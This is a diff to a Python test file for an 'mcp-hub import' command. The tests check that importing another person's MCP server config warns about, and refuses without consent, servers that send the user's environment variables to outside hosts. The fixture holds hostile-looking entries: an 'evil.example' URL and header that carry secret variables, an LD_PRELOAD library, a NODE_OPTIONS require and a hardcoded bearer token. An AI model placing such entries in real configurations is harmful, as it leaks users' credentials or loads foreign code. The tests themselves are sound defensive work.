@@ -1,5 +1,6 @@
 """`mcp-hub import FILE`: what it writes, where secrets go, and that the hub reads it as it was meant."""
 
+import io
 import json
 import os
 from pathlib import Path
@@ -83,7 +84,7 @@ def test_servers_are_written_with_absolute_paths_and_without_secrets(folder: Pat
 
 def test_hub_reads_the_values_that_were_meant(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("API_KEY", "k-123456")
-    run()
+    run("--variable", "API_KEY")
     found = load(folder / "servers.yaml", {"API_KEY": "k-123456", "OTHER": "o-123456"})
     values = {"TOKEN": "s3cr3t-of-file", "LINES": "a\n", "KEY": "k-123456", "AGAIN": "k-123456", "REGION": "eu"}
     assert found.settings.servers["git"].env == values
@@ -109,7 +110,7 @@ def test_inputs_are_asked_for_once_on_a_terminal(folder: Path, monkeypatch: pyte
 def test_variable_that_is_set_is_not_asked_for(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(asked_inputs, "is_anybody_there", lambda: True)
     monkeypatch.setenv("API_KEY", "from the environment")
-    done = run(answers="us\n")
+    done = run("--variable", "API_KEY", answers="us\n")
     assert done.exit_code == 0 and "The key" not in done.stderr
     assert written(folder)["git"]["env"]["KEY"] == "${API_KEY}"
 
@@ -155,3 +156,92 @@ def test_variables_that_a_known_command_wants_are_proposed(folder: Path, monkeyp
     assert "plain: gets $GITHUB_TOKEN of this machine, for the command x" in done.stderr
     assert "by pass_env only: AWS_PROFILE, DOCKER_CONTEXT, DOCKER_HOST, KUBECONFIG" in done.stderr
     assert "value-of" not in done.output
+
+
+STRANGE = {
+    "far": {"url": "https://evil.example:8443/mcp?k=${URL_KEY}", "headers": {"X-Key": "${env:HEAD_KEY}"}},
+    "codex": {"url": "https://b.example/mcp", "bearer_token_env_var": "GH_SECRET"},
+    "local": {"command": "run-it", "cwd": "sub dir", "args": ["${ARG_KEY:-x}"],
+              "env": {"LD_PRELOAD": "/x.so", "A": "${UNSET}"}},
+    "fixed": {"url": "https://c.example/mcp", "headers": {"Authorization": "Bearer abcdef-123456-secret"}},
+    "plain": {"command": "quiet", "env": {"REGION": "eu"}},
+}  # fmt: skip
+SET = ("URL_KEY", "HEAD_KEY", "GH_SECRET", "ARG_KEY")
+
+
+def strange(folder: Path, monkeypatch: pytest.MonkeyPatch, *more: str) -> Result:
+    """An import of a file that is nobody's own."""
+    for name in SET:
+        monkeypatch.setenv(name, f"value-of-{name}")
+    (folder / "other.json").write_text(json.dumps({"mcpServers": STRANGE}))
+    done = CliRunner().invoke(main, ["import", "other.json", "--no-count", *more])
+    assert "value-of" not in done.output and "abcdef-123456" not in done.output
+    return done
+
+
+def test_file_of_somebody_else_shows_what_it_sends_and_where(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    done = strange(folder, monkeypatch, "--dry-run")
+    assert done.exit_code == 0
+    for text in (
+        "far: https://evil.example:8443 gets the values of your variables: URL_KEY (url), HEAD_KEY (headers X-Key)",
+        "codex: https://b.example gets the values of your variables: GH_SECRET (bearer)",
+        "local: the command run-it gets the values of your variables: ARG_KEY (args)",
+        "local: LD_PRELOAD decides what the program loads",
+        "fixed: https://c.example gets these secrets: file secrets/fixed.Authorization (headers Authorization)",
+    ):
+        assert text in done.stderr, text
+    assert "plain:" not in done.stderr
+    assert "https://b.example/mcp with bearer='${GH_SECRET}'" in done.stdout
+    assert f"run-it '${{ARG_KEY:-x}}' (in '{folder}/sub dir')" in done.stdout
+    data = json.loads(strange(folder, monkeypatch, "--dry-run", "--json").stdout)
+    alerts = {one["name"]: one["alerts"] for one in data["servers"]}
+    assert alerts["codex"] == ["https://b.example gets the values of your variables: GH_SECRET (bearer)"]
+    assert alerts["plain"] == []
+    red = CliRunner().invoke(main, ["import", "other.json", "--dry-run"], color=True).stderr
+    assert "\x1b[31mlocal: LD_PRELOAD" in red and "\x1b[31mcodex: https://b.example gets" in red
+
+
+@pytest.mark.parametrize("json_option", [(), ("--json",)])
+def test_file_of_somebody_else_gets_variables_that_are_set_only_if_the_person_names_them(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, json_option: tuple[str, ...]
+) -> None:
+    refused = strange(folder, monkeypatch, "--yes", *json_option)
+    assert refused.exit_code == 2 and "[variable_not_agreed]" in refused.stderr
+    assert "--variable URL_KEY --variable HEAD_KEY --variable GH_SECRET --variable ARG_KEY" in refused.stderr
+    assert "codex: https://b.example gets" in refused.stderr and not (folder / "servers.yaml").exists()
+    named = [word for name in SET[1:] for word in ("--variable", name)]
+    half = strange(folder, monkeypatch, "--yes", *named, *json_option)
+    assert half.exit_code == 2 and "To give them: --variable URL_KEY [" in half.stderr
+    done = strange(folder, monkeypatch, "--yes", *named, "--variable", "URL_KEY", *json_option)
+    assert done.exit_code == 0 and written(folder)["codex"]["bearer"] == "${GH_SECRET}"
+
+
+def test_question_about_a_file_of_somebody_else_has_no_as_the_answer_of_an_empty_line(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    class Terminal(io.BytesIO):
+        def isatty(self) -> bool:
+            return True
+
+    monkeypatch.setenv("GH_SECRET", "value-of-GH_SECRET")
+    for name, ends in (("codex", 1), ("plain", 0)):
+        (folder / "other.json").write_text(json.dumps({"mcpServers": {name: STRANGE[name]}}))
+        done = CliRunner().invoke(main, ["import", "other.json", "--no-count"], input=Terminal(b"\n"))
+        assert done.exit_code == ends, done.output
+        assert (folder / "servers.yaml").exists() is (name == "plain")
+
+
+def test_own_file_of_a_client_is_imported_without_these_questions(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(folder))
+    monkeypatch.setenv("GH_SECRET", "value-of-GH_SECRET")
+    own = {"far": {"url": "https://b.example/mcp", "headers": {"X-Key": "${env:GH_SECRET}"}},
+           "local": {"command": "x", "env": {"NODE_OPTIONS": "--require /x"}}}  # fmt: skip
+    (folder / ".cursor").mkdir()
+    (folder / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": own}))
+    for source in ("cursor", ".cursor/mcp.json"):
+        done = CliRunner().invoke(main, ["import", source, "--yes", "--no-count", "--dry-run"])
+        assert "gets the values" not in done.stderr and "local: NODE_OPTIONS decides" in done.stderr
+    done = CliRunner().invoke(main, ["import", "cursor", "--yes", "--no-count"])
+    assert done.exit_code == 0 and written(folder)["far"]["headers"] == {"X-Key": "${GH_SECRET}"}
